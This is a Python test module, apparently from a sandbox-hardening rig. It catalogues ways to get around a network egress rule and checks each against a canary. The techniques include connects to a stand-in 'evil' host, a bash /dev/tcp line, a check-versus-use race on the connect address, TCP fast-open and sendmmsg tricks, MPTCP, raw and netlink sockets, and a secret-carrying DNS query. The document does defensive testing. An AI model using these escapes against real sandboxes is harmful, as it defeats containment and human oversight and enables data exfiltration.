"""Ways to reach a network beside the rule. A connection counts once the canary came back: with hosts in the rule, every
`connect` reaches the proxy, whatever it names.
"""

import contextlib
import ctypes
import os
import socket
import struct
import threading
import time

from rigs.sandbox.hostile.calls import Refused, World, address, buffer, call, escape, failed, loot

_HELLO = b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
_MPTCP, _SCTP, _SMC, _AF_VSOCK, _AF_ALG, _AF_XDP, _AF_PACKET, _AF_NETLINK = 262, 132, 43, 40, 38, 44, 17, 16
_FASTOPEN, _TCP_ULP, _TCP_FASTOPEN_CONNECT, _TCP_REPAIR = 0x20000000, 31, 30, 19
_WAIT = 1.5
Address = tuple[str, int]


def opened(family: int, kind: int, protocol: int = 0) -> socket.socket:
    """A socket with a time limit. Raises: `OSError`."""
    fresh = socket.socket(family, kind, protocol)
    fresh.settimeout(_WAIT)
    return fresh


def answer(world: World, stream: socket.socket, hello: bytes = _HELLO) -> str:
    """What the other side of a stream says to this. Raises: `OSError`, `Refused`."""
    if hello:
        stream.sendall(hello)
    parts = []
    with contextlib.suppress(TimeoutError):
        while part := stream.recv(4096):
            parts.append(part)
    return loot(world, b"".join(parts))


def _tcp(name: str, family: int, host: str, port: str = "port") -> None:
    """Enters the escape that connects to this address."""

    @escape(f"tcp-{name}")
    def tcp(world: World) -> str:
        with opened(family, socket.SOCK_STREAM) as stream:
            stream.connect((world.get(host, host), int(world[port])))
            return answer(world, stream)


for _title, _family, _host, _port in (
    ("evil", socket.AF_INET, "evil-address", "port"), ("evil-80", socket.AF_INET, "evil-address", "http"),
    ("evil-443", socket.AF_INET, "evil-address", "https"),
    ("allowed-other-port", socket.AF_INET, "good-address", "ssh"),
    ("loopback", socket.AF_INET, "127.0.0.1", "port"), ("loopback-other", socket.AF_INET, "127.9.9.9", "port"),
    ("any-address", socket.AF_INET, "0.0.0.0", "port"), ("private", socket.AF_INET, "private-address", "port"),
    ("metadata", socket.AF_INET, "metadata-address", "http"), ("ipv6", socket.AF_INET6, "evil-address6", "port"),
    ("ipv6-loopback", socket.AF_INET6, "::1", "port"), ("mapped", socket.AF_INET6, "mapped-address", "port"),
    ("dns", socket.AF_INET, "127.0.0.1", "dns"),
    ("proxy-port-elsewhere", socket.AF_INET, "evil-address", "proxy-port"),
):  # fmt: skip
    _tcp(_title, _family, _host, _port)


@escape("tcp-shell")
def shell(world: World) -> str:
    """A shell of the system instead of the interpreter's calls."""
    script = (
        f"exec 3<>/dev/tcp/{world['evil-address']}/{world['port']}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3"
    )
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writing, 1)
        os.execv("/bin/bash", ["bash", "-c", script])
    os.close(writing)
    with os.fdopen(reading, "rb") as stream:
        found = stream.read()
    os.waitpid(child, 0)
    return loot(world, found)


@escape("tcp-race")
def race(world: World) -> str:
    """A thread changes the address between the check and the use."""

    def packed(host: str) -> bytes:
        return struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", int(world["http"]), socket.inet_aton(host))

    good, evil = packed(world["good-address"]), packed(world["evil-address"])
    memory = buffer(good)

    def flip() -> None:
        while True:
            ctypes.memmove(memory, evil, len(evil))
            ctypes.memmove(memory, good, len(good))

    threading.Thread(target=flip, daemon=True).start()
    libc, until = ctypes.CDLL(None, use_errno=True), time.monotonic() + 3
    while time.monotonic() < until:
        with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
            stream.setblocking(True)
            if libc.connect(stream.fileno(), memory, 16):
                if ctypes.get_errno() not in (11, 110, 111):
                    raise failed(ctypes.get_errno())
                continue
            stream.settimeout(0.2)
            with contextlib.suppress(Refused, OSError):
                return answer(world, stream)
    raise Refused("the other address never answered")


@escape("tcp-reconnect")
def reconnect(world: World) -> str:
    """A socket that was connected is disconnected (`AF_UNSPEC`), and connected again."""
    libc = ctypes.CDLL(None, use_errno=True)
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.connect((world["good-address"], int(world["http"])))
        if libc.connect(stream.fileno(), buffer(16), 16):
            raise failed(ctypes.get_errno())
        stream.connect((world["evil-address"], int(world["port"])))
        return answer(world, stream)


@escape("tcp-nonblocking")
def nonblocking(world: World) -> str:
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            stream.connect((world["evil-address"], int(world["port"])))
        stream.settimeout(_WAIT)
        return answer(world, stream)


@escape("fast-open")
def fast_open(world: World) -> str:
    """A connection by `sendto`, without `connect`."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setblocking(True)
        stream.sendto(_HELLO, _FASTOPEN, (world["evil-address"], int(world["port"])))
        stream.settimeout(_WAIT)
        return answer(world, stream, b"")


@escape("fast-open-message")
def fast_open_message(world: World) -> str:
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setblocking(True)
        stream.sendmsg([_HELLO], [], _FASTOPEN, (world["evil-address"], int(world["port"])))
        stream.settimeout(_WAIT)
        return answer(world, stream, b"")


def _message(world: World) -> tuple[ctypes.Array[ctypes.c_char], list[ctypes.Array[ctypes.c_char]]]:
    """A `msghdr` for the address of evil, and the memory that it points to."""
    name = buffer(
        struct.pack("=H", socket.AF_INET)
        + struct.pack("!H4s8x", int(world["port"]), socket.inet_aton(world["evil-address"]))
    )
    data = buffer(_HELLO)
    vector = buffer(struct.pack("QQ", address(data), len(_HELLO)))
    return buffer(struct.pack("QIxxxxQQQQiI", address(name), 16, address(vector), 1, 0, 0, 0, 0)), [name, data, vector]


@escape("fast-open-messages")
def fast_open_messages(world: World) -> str:
    """`sendmmsg`."""
    message, memory = _message(world)
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setblocking(True)
        call("sendmmsg", stream.fileno(), message, 1, _FASTOPEN)
        stream.settimeout(_WAIT)
        memory.clear()
        return answer(world, stream, b"")


@escape("fast-open-high-bits")
def fast_open_high(world: World) -> str:
    message, memory = _message(world)
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setblocking(True)
        call("sendmsg", stream.fileno(), message, 1 << 40 | _FASTOPEN)
        stream.settimeout(_WAIT)
        memory.clear()
        return answer(world, stream, b"")


@escape("fast-open-option")
def fast_open_option(world: World) -> str:
    """A `connect` that does nothing, and a first write that connects."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, _TCP_FASTOPEN_CONNECT, 1)
        stream.connect((world["evil-address"], int(world["port"])))
        return answer(world, stream)


@escape("mptcp")
def mptcp(world: World) -> str:
    with opened(socket.AF_INET, socket.SOCK_STREAM, _MPTCP) as stream:
        stream.connect((world["evil-address"], int(world["port"])))
        return answer(world, stream)


@escape("mptcp-ipv6")
def mptcp6(world: World) -> str:
    with opened(socket.AF_INET6, socket.SOCK_STREAM, _MPTCP) as stream:
        stream.connect((world["evil-address6"], int(world["port"])))
        return answer(world, stream)


@escape("mptcp-high-bits")
def mptcp_high(world: World) -> str:
    descriptor = call("socket", socket.AF_INET, socket.SOCK_STREAM, 1 << 40 | _MPTCP)
    with socket.socket(fileno=descriptor) as stream:
        stream.settimeout(_WAIT)
        stream.connect((world["evil-address"], int(world["port"])))
        return answer(world, stream)


@escape("upper-layer")
def upper_layer(world: World) -> str:
    """A protocol that a TCP socket is turned into."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, _TCP_ULP, b"mptcp")
    return "turned"


@escape("tcp-repair")
def repair(world: World) -> str:
    """A socket that is connected without a connection."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.setsockopt(socket.IPPROTO_TCP, _TCP_REPAIR, 1)
    return "set"


def _sort(name: str, family: int, kind: int, protocol: int = 0) -> None:
    """Enters the escape that opens a socket of this sort; none is needed for a connection to a host."""

    @escape(f"socket-{name}")
    def tried(world: World) -> str:
        socket.socket(family, kind, protocol).close()
        return "opened"


for _title, _number, _kind, _protocol in (
    ("sctp", 2, 1, _SCTP), ("sctp-packets", 2, 5, _SCTP), ("smc", _SMC, 1, 0), ("vsock", _AF_VSOCK, 1, 0),
    ("packet", _AF_PACKET, 3, 0), ("alg", _AF_ALG, 5, 0), ("xdp", _AF_XDP, 3, 0), ("raw", 2, 3, 1),
    ("raw-ipv6", 10, 3, 58), ("ping", 2, 2, 1), ("udp-lite", 2, 2, 136), ("unix", 1, 1, 0), ("unix-datagram", 1, 2, 0),
    ("bluetooth", 31, 3, 1), ("can", 29, 3, 1), ("rds", 21, 5, 0), ("tipc", 30, 5, 0), ("l2tp", 2, 2, 115),
    ("key", 15, 3, 2), ("dccp", 2, 6, 33),
    ("netlink-audit", _AF_NETLINK, 3, 9), ("netlink-filter", _AF_NETLINK, 3, 12),
    ("netlink-generic", _AF_NETLINK, 3, 16),
    ("netlink-events", _AF_NETLINK, 3, 15), ("netlink-sockets", _AF_NETLINK, 3, 4), ("netlink-xfrm", _AF_NETLINK, 3, 6),
):  # fmt: skip
    _sort(_title, _number, _kind, _protocol)


@escape("socket-high-bits")
def high_bits(world: World) -> str:
    """A family with a bit above the 32 that the kernel looks at."""
    os.close(call("socket", 1 << 40 | socket.AF_UNIX, socket.SOCK_STREAM, 0))
    return "opened"


@escape("udp")
def udp(world: World) -> str:
    with opened(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(b"hello", (world["evil-address"], int(world["port"])))
        return loot(world, datagrams.recv(4096))


@escape("udp-connected")
def udp_connected(world: World) -> str:
    with opened(socket.AF_INET6, socket.SOCK_DGRAM) as datagrams:
        datagrams.connect((world["evil-address6"], int(world["port"])))
        datagrams.send(b"hello")
        return loot(world, datagrams.recv(4096))


@escape("dns")
def dns(world: World) -> str:
    """A question to the name server, which could carry a secret."""
    question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\0" + struct.pack("!2H", 1, 1)
    with opened(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.sendto(question, ("127.0.0.1", int(world["dns"])))
        return f"{len(datagrams.recv(512))} bytes"


@escape("dns-library")
def dns_library(world: World) -> str:
    """The system's own way to resolve a name."""
    try:
        return str(socket.getaddrinfo("evil.test", 80)[0][4][0])
    except socket.gaierror as exc:
        raise Refused(str(exc)) from None


@escape("listen")
def listen(world: World) -> str:
    """A port at which others reach the server."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("0.0.0.0", 0))
        listener.listen()
    return "listens"


@escape("listen-unbound")
def listen_unbound(world: World) -> str:
    """Without `bind`: the kernel picks a port."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.listen()
    return "listens"


@escape("hub-front")
@escape("tcp-hub")
def hub(world: World) -> str:
    """The front of the hub itself, behind which are the tools of all servers."""
    with opened(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.connect(("127.0.0.1", int(world["hub-port"])))
        stream.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        found = stream.recv(4096)
        if b" 200 " not in found[:16]:
            raise Refused(f"no health: {found[:80]!r}")
    return "the hub answers"
